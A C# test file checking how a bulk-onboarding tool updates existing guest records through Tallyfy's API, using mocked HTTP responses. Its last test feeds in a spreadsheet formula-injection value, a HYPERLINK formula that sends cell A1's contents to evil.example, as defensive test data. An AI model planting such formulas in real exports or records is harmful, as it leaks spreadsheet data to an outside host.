using System.Net;
using BulkOnboard.Reporting;
using BulkOnboard.Validation;
using BulkOnboard.Tests.Support;
using RichardSzalay.MockHttp;

namespace BulkOnboard.Tests.Delivery;

/// <summary><c>--on-existing update</c> against the guest record as Tallyfy's current pages show it.</summary>
public class GuestUpdaterTests
{
    private const string GuestUrl = DeliveryHarness.GuestsUrl + "/g%40x.example";

    [Test]
    public async Task Update_RecordWithNamesAtTheTopAndTheRestInDetails_SameValues_IsUnchangedWithoutAPut()
    {
        using var harness = new DeliveryHarness(updateExisting: true);
        harness.Http.Expect(HttpMethod.Post, DeliveryHarness.GuestsUrl).Respond((HttpStatusCode)422, "application/json", DeliveryHarness.Taken);
        harness.Http.Expect(HttpMethod.Get, GuestUrl).Respond(HttpStatusCode.Created, "application/json",
            """{"data":{"id":4523,"email":"g@x.example","first_name":"Gus","last_name":null,"created_at":"2025-01-15 10:30:00","details":{"company_name":"Acme","phone_1":null}}}""");

        var result = await harness.SendAsync(DeliveryHarness.Guest());

        harness.Http.VerifyNoOutstandingExpectation();
        Assert.That((result.Outcome, result.Reason), Is.EqualTo((Outcome.Skipped, Outcomes.Unchanged)), result.Message);
    }

    [Test]
    public async Task Update_OnlyFieldsTheApiDoesNotUpdateDiffer_IsNotUpdatable_AndNoPutIsSent()
    {
        using var harness = new DeliveryHarness(updateExisting: true);
        harness.Http.Expect(HttpMethod.Post, DeliveryHarness.GuestsUrl).Respond((HttpStatusCode)422, "application/json", DeliveryHarness.Taken);
        harness.Http.Expect(HttpMethod.Get, GuestUrl).Respond(HttpStatusCode.Created, "application/json",
            """{"data":{"id":4523,"email":"g@x.example","first_name":"Gus","details":{"company_name":"Old Co"}}}""");

        var result = await harness.SendAsync(DeliveryHarness.Guest());

        harness.Http.VerifyNoOutstandingExpectation();
        Assert.That((result.Outcome, result.Reason), Is.EqualTo((Outcome.Skipped, Outcomes.NotUpdatable)));
        Assert.That(result.Message, Does.Contain("company_name").And.Contain("does not update").And.Not.Contain("first_name"));
    }

    [Test]
    public async Task Update_AssociatedMembersDiffer_PutsOnlyThem_AndIsUpdatedWhenTallyfyHoldsThem()
    {
        using var harness = new DeliveryHarness(updateExisting: true);
        string? body = null;
        harness.Http.Expect(HttpMethod.Post, DeliveryHarness.GuestsUrl).Respond((HttpStatusCode)422, "application/json", DeliveryHarness.Taken);
        harness.Http.Expect(HttpMethod.Get, GuestUrl).Respond(HttpStatusCode.OK, "application/json",
            """{"data":{"id":4523,"first_name":"Gus","details":{"company_name":"Old Co","associated_members":[7]}}}""");
        harness.Http.Expect(HttpMethod.Put, GuestUrl)
            .With(request => (body = request.Content!.ReadAsStringAsync().Result) is not null)
            .Respond(HttpStatusCode.Created, "application/json", """{"data":{"id":4523,"details":{"associated_members":[12,34]}}}""");

        var result = await harness.SendAsync(DeliveryHarness.Guest() with { AssociatedMembers = [34, 12] });

        harness.Http.VerifyNoOutstandingExpectation();
        Assert.That(body, Is.EqualTo("""{"associated_members":[34,12]}"""), "nothing else is sent: Tallyfy would ignore it");
        Assert.That(result.Outcome, Is.EqualTo(Outcome.Updated));
        Assert.That(result.Message, Does.StartWith("details updated: associated_members").And.Contain("company_name"));
    }

    [Test]
    public async Task Update_PutAcceptedButTallyfyDoesNotHoldTheList_IsNotReportedUpdated()
    {
        using var harness = new DeliveryHarness(updateExisting: true);
        harness.Http.Expect(HttpMethod.Post, DeliveryHarness.GuestsUrl).Respond((HttpStatusCode)422, "application/json", DeliveryHarness.Taken);
        harness.Http.Expect(HttpMethod.Get, GuestUrl).Respond(HttpStatusCode.OK, "application/json", """{"data":{"first_name":"Gus","details":{"company_name":"Acme","associated_members":[7]}}}""");
        harness.Http.Expect(HttpMethod.Put, GuestUrl).Respond(HttpStatusCode.Created, "application/json", """{"data":{"id":4523,"details":{"associated_members":[7]}}}""");

        var result = await harness.SendAsync(DeliveryHarness.Guest() with { AssociatedMembers = [12] });

        Assert.That(result.Outcome, Is.EqualTo(Outcome.Failed));
        Assert.That(result.Message, Does.Contain("does not hold"));
    }

    /// <summary>Answers are scrubbed of URL queries before they are shown, never before they are read.</summary>
    [Test]
    public async Task Update_AUrlWithAQuery_TheSameAsTallyfyHolds_IsUnchanged()
    {
        using var harness = new DeliveryHarness(updateExisting: true);
        harness.Http.Expect(HttpMethod.Post, DeliveryHarness.GuestsUrl).Respond((HttpStatusCode)422, "application/json", DeliveryHarness.Taken);
        harness.Http.Expect(HttpMethod.Get, GuestUrl).Respond(HttpStatusCode.OK, "application/json",
            """{"data":{"id":4523,"first_name":"Gus","details":{"company_name":"Acme","company_url":"https://acme.example/?ref=hr"}}}""");

        var result = await harness.SendAsync(DeliveryHarness.Guest() with { CompanyUrl = "https://acme.example/?ref=hr" });

        Assert.That((result.Outcome, result.Reason), Is.EqualTo((Outcome.Skipped, Outcomes.Unchanged)), result.Message);
    }

    [Test]
    public async Task Create_AnAnswerHoldingAUrlWithAQuery_StillGivesTheGuestsId()
    {
        using var harness = new DeliveryHarness();
        harness.Http.Expect(HttpMethod.Post, DeliveryHarness.GuestsUrl).Respond(HttpStatusCode.Created, "application/json",
            """{"data":{"id":4523,"email":"g@x.example","first_name":"=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")"}}""");

        var result = await harness.SendAsync(DeliveryHarness.Guest());

        Assert.That((result.Outcome, result.TallyfyId), Is.EqualTo((Outcome.Created, "4523")), result.Message);
    }
}
